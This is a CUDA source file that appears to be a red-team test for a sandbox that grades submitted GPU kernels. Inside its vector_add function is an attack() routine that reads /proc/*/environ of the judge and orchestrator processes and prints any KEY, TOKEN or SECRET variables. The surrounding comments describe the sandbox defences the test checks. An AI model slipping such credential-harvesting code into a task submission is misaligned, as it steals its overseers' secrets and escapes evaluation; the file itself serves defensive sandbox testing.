// expect: passed
// task: vector_add
// flags: --no-time
// modes: eval diagnose
// threat: escape to the host
// mechanism: Landlock: no /proc entry but its own; the orchestrator and judge are not dumpable; subprocesses get a scrubbed environment
// why: reads the environment and command line of every process it can see, its parent (the judge) and the orchestrator above it included, and prints every variable with KEY, TOKEN or SECRET in it; then computes the right answer: the orchestrator's API key must not reach the verdict
#include <cuda_runtime.h>
#include <stdio.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static int breached = 0;
// An attack that got through says so where a verdict shows it (the end of the process's
// output, kept with a rejection) and spoils the answer, so the verdict cannot pass.
static void breach(const char* what) {
  fprintf(stderr, "REDTEAM-BREACH: %s\n", what);
  fflush(stderr);
  breached = 1;
}
__global__ void add(const float* a, const float* b, float* c, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}
__global__ void spoil(float* c) { c[0] += 1.0f; }
static void attack() {
  DIR* d = opendir("/proc");
  while (d) {
    dirent* e = readdir(d);
    if (!e) break;
    if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid()) continue;
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    static char env[1 << 16];
    ssize_t got = read(fd, env, sizeof env - 1);
    close(fd);
    if (got <= 0) continue;
    env[got] = 0;
    char m[400];
    snprintf(m, sizeof m, "read %s", path);
    breach(m);
    for (ssize_t i = 0; i < got; i += strlen(env + i) + 1)
      if (strstr(env + i, "KEY") || strstr(env + i, "TOKEN") || strstr(env + i, "SECRET")) {
        snprintf(m, sizeof m, "pid %s: %.300s", e->d_name, env + i);
        breach(m);
      }
  }
  if (d) closedir(d);
}
extern "C" void vector_add(const float* a, const float* b, float* c, int n, cudaStream_t s) {
  static bool once = false;
  if (!once) {
    once = true;
    attack();
  }
  if (n > 0) add<<<(n + 255) / 256, 256, 0, s>>>(a, b, c, n);
  if (breached && n > 0) spoil<<<1, 1, 0, s>>>(c);
}
